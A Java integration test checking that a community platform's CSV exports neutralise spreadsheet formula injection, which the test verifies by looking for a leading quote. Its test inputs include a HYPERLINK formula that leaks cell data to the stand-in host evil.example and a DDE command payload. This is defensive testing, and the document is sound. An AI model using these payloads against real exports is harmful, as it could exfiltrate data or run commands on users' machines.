package se.brobygge.security;

import static org.assertj.core.api.Assertions.assertThat;
import static se.brobygge.support.RunAs.as;
import static se.brobygge.support.RunAs.run;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import se.brobygge.dialogue.DialogueId;
import se.brobygge.dialogue.DialogueService;
import se.brobygge.dialogue.DialogueTestData;
import se.brobygge.dialogue.PostService;
import se.brobygge.events.CheckInService;
import se.brobygge.events.EventDraft;
import se.brobygge.events.EventEditingService;
import se.brobygge.events.EventId;
import se.brobygge.events.EventService;
import se.brobygge.events.SignUpRequest;
import se.brobygge.events.SignUpService;
import se.brobygge.identity.AccountService;
import se.brobygge.identity.ProfileUpdate;
import se.brobygge.identity.Roles;
import se.brobygge.mentoring.ProfileService;
import se.brobygge.moderation.BlockService;
import se.brobygge.moderation.ModerationAdminService;
import se.brobygge.privacy.audit.AuditFilter;
import se.brobygge.privacy.audit.AuditLog;
import se.brobygge.support.IntegrationTest;
import se.brobygge.support.TestAccounts;
import se.brobygge.support.TestEvents;

/**
 * Formula injection (CWE-1236): text that people typed and that starts like a spreadsheet formula
 * reaches every CSV export as text, behind a leading single quote, so Excel or LibreOffice shows it
 * and runs nothing. Each export is fed through the real service that writes it.
 */
@IntegrationTest
class CsvExportsIT {

    static final String LINK = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Klicka här\")";

    @Autowired
    TestAccounts accounts;

    @Autowired
    AccountService accountService;

    @Autowired
    EventService events;

    @Autowired
    EventEditingService editing;

    @Autowired
    SignUpService signUps;

    @Autowired
    CheckInService checkIns;

    @Autowired
    DialogueService dialogues;

    @Autowired
    PostService posts;

    @Autowired
    BlockService blocks;

    @Autowired
    ModerationAdminService moderationAdmin;

    @Autowired
    ProfileService mentoringProfiles;

    @Autowired
    AuditLog auditLog;

    /** A resident who named themselves like a formula, through the profile page's service. */
    private TestAccounts.Created attacker() {
        TestAccounts.Created mallory = accounts.create("Mallory", Roles.RESIDENT);
        run(
                mallory,
                Roles.RESIDENT,
                () -> accountService.updateMyProfile(new ProfileUpdate(LINK, "sv", Set.of(), null)));
        return mallory;
    }

    @Test
    void attendeeNamesAndAnswersStartingLikeFormulasAreText() {
        TestAccounts.Created lina = accounts.create("Lina Arrangör", Roles.STAFF);
        EventDraft d = TestEvents.draft("Språkcafé med frågor", 10);
        EventId id = as(
                lina,
                Roles.STAFF,
                () -> editing.create(d.toBuilder()
                        .quotas(List.of())
                        .approvalRequired(false)
                        .questions(List.of("Behöver du tolk?", "Matallergier?"))
                        .build()));
        TestAccounts.Created mallory = attacker();
        as(
                mallory,
                Roles.RESIDENT,
                () -> signUps.signUp(id, new SignUpRequest(null, List.of("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"))));
        TestAccounts.Created erik = accounts.create("Erik", Roles.RESIDENT);
        as(erik, Roles.RESIDENT, () -> signUps.signUp(id, new SignUpRequest(null, List.of("Nej", "Nötter"))));

        List<CSVRecord> rows = parse(as(lina, Roles.STAFF, () -> checkIns.attendeesCsv(id, Locale.of("sv"))));
        CSVRecord row = rows.stream()
                .filter(r -> r.get("name").contains("HYPERLINK"))
                .findFirst()
                .orElseThrow();
        assertThat(row.get("name")).isEqualTo("'" + LINK);
        assertThat(row.get("Behöver du tolk?")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(row.get("Matallergier?")).isEqualTo("'-2+3");
        CSVRecord plain = rows.stream()
                .filter(r -> r.get("name").equals("Erik"))
                .findFirst()
                .orElseThrow();
        assertThat(plain.get("Matallergier?")).as("ordinary text is unchanged").isEqualTo("Nötter");
    }

    @Test
    void dialoguePostsStartingLikeFormulasAreText() {
        TestAccounts.Created lina = accounts.create("Lina", Roles.STAFF);
        DialogueId id = DialogueTestData.open(dialogues, lina, DialogueTestData.unique("Torget"), false);
        TestAccounts.Created amal = accounts.create("Amal", Roles.RESIDENT);
        as(amal, Roles.RESIDENT, () -> posts.post(id, LINK, "sv"));
        as(amal, Roles.RESIDENT, () -> posts.post(id, "+46 40 123 45 är numret till biblioteket", "sv"));

        List<CSVRecord> rows = parse(as(lina, Roles.STAFF, () -> dialogues.exportCsv(id, Locale.of("sv"))));
        assertThat(rows)
                .extracting(r -> r.get("Text"))
                .containsExactlyInAnyOrder("'" + LINK, "'+46 40 123 45 är numret till biblioteket");
        assertThat(rows)
                .extracting(r -> r.get("Nummer"))
                .allSatisfy(v -> assertThat(v).matches("[0-9]+"));
    }

    @Test
    void moderationReasonsStartingLikeFormulasAreText() {
        TestAccounts.Created lina = accounts.create("Lina Moderator", Roles.STAFF);
        TestAccounts.Created erik = accounts.create("Erik", Roles.RESIDENT);
        Instant from = Instant.now().minusSeconds(5);
        as(lina, Roles.STAFF, () -> blocks.block(erik.id(), null, LINK, false));

        List<CSVRecord> rows = parse(as(lina, Roles.STAFF, () -> moderationAdmin.logCsv(from, Locale.of("sv"))));
        assertThat(rows)
                .filteredOn(r -> r.get("Gäller").equals("account:" + erik.id()))
                .extracting(r -> r.get("Skäl"))
                .containsExactly("'" + LINK);
    }

    @Test
    void namesInTheAccessLogStartingLikeFormulasAreText() {
        TestAccounts.Created mallory = attacker();
        TestAccounts.Created lina = accounts.create("Lina Samordnare", Roles.STAFF);
        as(lina, Roles.STAFF, () -> mentoringProfiles.profileOf(mallory.id()));
        TestAccounts.Created admin = accounts.create("Revisor", Roles.ADMIN);

        List<CSVRecord> rows =
                parse(as(admin, Roles.ADMIN, () -> auditLog.csv(new AuditFilter(lina.id(), null, null, null))));
        assertThat(rows).extracting(r -> r.get("subject")).containsExactly("'" + LINK);
        assertThat(rows).extracting(r -> r.get("actor")).containsExactly("Lina Samordnare");
    }

    /** Parses an export as a spreadsheet program would, after the byte-order mark. */
    static List<CSVRecord> parse(byte[] csv) {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try {
            return CSVFormat.DEFAULT
                    .builder()
                    .setHeader()
                    .setSkipHeaderRecord(true)
                    .get()
                    .parse(new StringReader(text.substring(1)))
                    .getRecords();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
